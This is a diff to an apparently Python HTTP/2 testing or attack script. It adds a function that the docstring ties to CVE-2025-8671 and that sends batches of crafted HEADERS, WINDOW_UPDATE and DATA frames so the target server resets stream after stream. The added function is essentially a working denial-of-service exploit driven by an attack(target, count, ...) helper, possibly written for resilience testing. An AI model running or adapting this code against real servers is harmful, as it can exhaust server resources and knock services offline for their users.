@@ -255,3 +255,26 @@ def refused_streams(target, count):
 
 # GET https://a/ in references to the static table.
 SMALL = bytes([0x82, 0x84, 0x87, 0x41, 1]) + b"a"
+
+
+def faulty_streams(target, count, kind):
+    """Provokes RST_STREAM on stream after stream (CVE-2025-8671)."""
+
+    def act(client):
+        begin = b""
+        if client.stream == 1:
+            field = literal(b"x", b"y" * 3900, pattern=0x40)
+            begin = frame(HEADERS, END_STREAM | END_HEADERS, client.next_streams(1)[0], request() + field)
+        length = literal(b"content-length", b"1") if kind == "length" else b""
+        faults = {
+            # The newest entry of the dynamic table is number 62. Three of them exceed --max-trailers.
+            "trailers": lambda stream: frame(HEADERS, END_STREAM | END_HEADERS, stream, b"\xbe" * 3),
+            "window": lambda stream: frame(WINDOW_UPDATE, 0, stream, bytes(4)),
+            "length": lambda stream: frame(DATA, 0, stream, b"xx"),
+        }
+        return begin + b"".join(
+            frame(HEADERS, END_HEADERS, stream, request(b"/reverse", b"POST") + length) + faults[kind](stream)
+            for stream in client.next_streams(20)
+        )
+
+    attack(target, count, act, most=500)
